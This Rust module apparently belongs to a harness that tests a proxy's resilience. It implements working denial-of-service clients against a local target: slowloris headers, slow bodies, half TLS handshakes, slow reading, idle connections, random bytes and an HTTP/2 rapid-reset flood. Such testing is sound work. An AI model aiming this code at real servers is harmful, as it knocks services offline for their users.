//! What one attacker does, again and again, until it is stopped.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

use crate::table::Attacker;
use crate::target::Addresses;

/// Between two bytes of what is sent, or read, slowly.
const DRIP: Duration = Duration::from_millis(500);
/// Before an attacker whose connection was closed comes again.
const AGAIN: Duration = Duration::from_millis(100);

/// Connects from one of many addresses of this machine, none of them the honest client's.
async fn connect(to: SocketAddr, who: &Attacker) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    let last = u8::try_from(2 + who.number % 200).unwrap();
    socket.bind(SocketAddr::new(Ipv4Addr::new(127, 0, 1, last).into(), 0))?;
    socket.connect(to).await
}

/// Says once that it is in place.
fn in_place(who: &Attacker, told: &mut bool) {
    if !std::mem::replace(told, true) {
        // Whoever counts may have stopped counting.
        let _ = who.in_place.send(());
    }
}

/// Sends `begin`, then a byte now and then until the proxy closes, and comes again.
async fn drip(to: SocketAddr, who: Attacker, begin: &str, byte: &[u8]) {
    let mut told = false;
    loop {
        if let Ok(mut stream) = connect(to, &who).await
            && stream.write_all(begin.as_bytes()).await.is_ok()
        {
            in_place(&who, &mut told);
            let (mut input, mut output) = stream.split();
            let sending = async {
                while output.write_all(byte).await.is_ok() {
                    sleep(DRIP).await;
                }
            };
            let mut answer = [0; 512];
            let closed = async { while input.read(&mut answer).await.is_ok_and(|n| n > 0) {} };
            tokio::select! {
                () = sending => {}
                () = closed => {}
            }
        }
        sleep(AGAIN).await;
    }
}

/// A head that never ends.
pub(crate) async fn slow_head(to: Addresses, who: Attacker) {
    drip(to.plain, who, "GET / HTTP/1.1\r\nHost: a\r\nX-Drip: ", b"x").await;
}

/// A body that comes byte by byte.
pub(crate) async fn slow_body(to: Addresses, who: Attacker) {
    let head = "POST /api/ HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
    drip(to.plain, who, head, b"x").await;
}

/// The beginning of a handshake that is never finished.
pub(crate) async fn half_handshake(to: Addresses, who: Attacker) {
    let mut told = false;
    loop {
        if let Ok(mut stream) = connect(to.secure, &who).await {
            // A record of 512 bytes that holds a ClientHello, of which one byte is there.
            let _ = stream.write_all(&[22, 3, 1, 2, 0, 1]).await;
            in_place(&who, &mut told);
            let _ = stream.read(&mut [0; 64]).await;
        }
        sleep(AGAIN).await;
    }
}

/// Takes an answer of 1 MiB through a small window, a little at a time.
pub(crate) async fn slow_reader(to: Addresses, who: Attacker) {
    let mut told = false;
    loop {
        if let Ok(mut stream) = connect(to.plain, &who).await {
            let _ = socket2::SockRef::from(&stream).set_recv_buffer_size(4096);
            let request = b"GET /files/large.bin HTTP/1.1\r\nHost: a\r\n\r\n";
            if stream.write_all(request).await.is_ok() {
                let mut piece = [0; 256];
                while stream.read(&mut piece).await.is_ok_and(|n| n > 0) {
                    in_place(&who, &mut told);
                    sleep(DRIP).await;
                }
            }
        }
        sleep(AGAIN).await;
    }
}

/// One request, and then nothing.
pub(crate) async fn idle(to: Addresses, who: Attacker) {
    let mut told = false;
    loop {
        if let Ok(mut stream) = connect(to.plain, &who).await {
            let request = b"GET /files/small.txt HTTP/1.1\r\nHost: a\r\n\r\n";
            let _ = stream.write_all(request).await;
            let mut answer = [0; 1024];
            if stream.read(&mut answer).await.is_ok_and(|n| n > 0) {
                in_place(&who, &mut told);
                while stream.read(&mut answer).await.is_ok_and(|n| n > 0) {}
            }
        }
        sleep(AGAIN).await;
    }
}

/// Bytes that mean nothing.
pub(crate) async fn random_bytes(to: Addresses, who: Attacker) {
    let mut told = false;
    let mut random = fastrand::Rng::with_seed(who.number.into());
    loop {
        let to = if random.bool() { to.plain } else { to.secure };
        if let Ok(mut stream) = connect(to, &who).await {
            in_place(&who, &mut told);
            let mut bytes = [0; 1024];
            for _ in 0..16 {
                random.fill(&mut bytes);
                if stream.write_all(&bytes).await.is_err() {
                    break;
                }
            }
            let answer = async { while stream.read(&mut bytes).await.is_ok_and(|n| n > 0) {} };
            let _ = tokio::time::timeout(DRIP, answer).await;
        }
        sleep(AGAIN).await;
    }
}

/// Requests over HTTP/2 that are taken back as soon as they are made, until the proxy ends it.
pub(crate) async fn reset_flood(to: Addresses, who: Attacker) {
    let mut told = false;
    loop {
        if let Ok(stream) = connect(to.plain, &who).await {
            let (mut reading, mut writing) = stream.into_split();
            let flood = async {
                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
                let mut written = writing.write_all(preface).await;
                for stream in (1u32..).step_by(2) {
                    if written.is_err() {
                        return;
                    }
                    written = writing.write_all(&taken_back(stream)).await;
                    in_place(&who, &mut told);
                }
            };
            let mut answer = [0; 4096];
            let closed = async { while reading.read(&mut answer).await.is_ok_and(|n| n > 0) {} };
            tokio::select! {
                () = flood => {}
                () = closed => {}
            }
        }
        sleep(AGAIN).await;
    }
}

/// A request to the server on this stream, and its reset.
fn taken_back(stream: u32) -> Vec<u8> {
    // GET, http, /api/ and the authority `a` (RFC 7541, appendix A).
    const HEAD: &[u8] = b"\x82\x86\x04\x05/api/\x01\x01a";
    const CANCEL: [u8; 4] = 8u32.to_be_bytes();
    let mut bytes = Vec::new();
    for (kind, flags, payload) in [(1, 5, HEAD), (3, 0, &CANCEL[..])] {
        let length = u8::try_from(payload.len()).unwrap();
        bytes.extend([0, 0, length, kind, flags]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend(payload);
    }
    bytes
}
